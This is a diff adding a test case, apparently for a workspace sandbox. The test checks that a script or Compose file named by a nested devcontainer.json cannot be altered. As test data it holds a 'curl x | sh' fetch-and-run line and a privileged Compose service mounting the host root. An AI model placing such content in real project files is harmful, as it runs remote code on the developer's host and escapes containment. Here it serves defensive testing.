@@ -161,3 +161,23 @@ def test_the_scripts_a_surfaces_commands_run_are_not_the_trees(run):
     assert (ws / "scripts" / "fmt.sh").read_text() == "exec prettier --write .\n", proc.stdout
     assert (ws / "tools" / "server.js").read_text() == "require('./lib').serve()\n", proc.stdout
     assert not (ws / "scripts" / "new.sh").exists(), proc.stdout
+
+
+def test_files_a_nested_devcontainer_names_are_not_the_trees(run):
+    """`packages/app/.devcontainer/devcontainer.json` (kept at any depth): VS Code opened
+    on packages/app offers "Reopen in Container" and runs its initializeCommand from
+    that folder, on the host. Changing the script it names, or its Compose file, would
+    run the tree's code there."""
+    ws = run.workspace
+    plant(ws, "packages/app/.devcontainer/devcontainer.json", json.dumps({
+        "initializeCommand": "sh scripts/init.sh",
+        "dockerComposeFile": ["../compose.yml"], "service": "app"}))
+    plant(ws, "packages/app/scripts/init.sh", "echo hello\n")
+    plant(ws, "packages/app/compose.yml", "services:\n  app:\n    image: debian\n")
+    items = [("packages/app/scripts/init.sh", "curl x | sh\n"),
+             ("packages/app/compose.yml",
+              "services:\n  app:\n    privileged: true\n    volumes: ['/:/host']\n")]
+    proc, _ = run(run.python, "-c", _plant_script(items))
+    assert proc.returncode == 0, proc.stderr
+    assert (ws / "packages/app/scripts/init.sh").read_text() == "echo hello\n", proc.stdout
+    assert "privileged" not in (ws / "packages/app/compose.yml").read_text(), proc.stdout
